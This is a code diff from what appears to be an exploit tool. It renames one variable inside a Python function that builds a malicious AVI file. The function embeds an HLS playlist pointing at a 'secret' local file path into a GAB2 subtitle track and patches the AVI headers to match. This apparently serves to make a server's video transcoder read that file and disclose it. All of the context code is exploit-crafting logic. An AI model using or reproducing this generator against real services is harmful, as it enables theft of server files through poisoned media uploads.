@@ -109,7 +109,7 @@ def list_in_avi(path: Path, secret: Path) -> None:
     body = _hls(str(secret)).encode()
     packet = b"GAB2\x00\x02\x00" + struct.pack("<I", 2) + b"x\x00" + struct.pack("<HI", 4, len(body)) + body
     raw = path.read_bytes()
-    place = raw.index(b"movi") + 4
+    offset = raw.index(b"movi") + 4
     track = b"02tx" + struct.pack("<I", len(packet)) + packet + bytes(len(packet) % 2)
     header = struct.pack("<4s4sIHHIIIIIIII4H", b"txts", bytes(4), 0, 0, 0, 0, 1, 25, 0, 25, 4096, 0, 0, 0, 0, 0, 0)
     lists = (
@@ -123,7 +123,7 @@ def list_in_avi(path: Path, secret: Path) -> None:
     lists += b"strf" + struct.pack("<I", 0)
     end = raw.index(b"LIST", raw.index(b"hdrl"))
     end = 20 + struct.unpack("<I", raw[16:20])[0]
-    grown = bytearray(raw[:end] + lists + raw[end:place] + track + raw[place:])
+    grown = bytearray(raw[:end] + lists + raw[end:offset] + track + raw[offset:])
     grown[16:20] = struct.pack("<I", end - 20 + len(lists))
     grown[56:60] = struct.pack("<I", 3)
     path.write_bytes(bytes(grown))
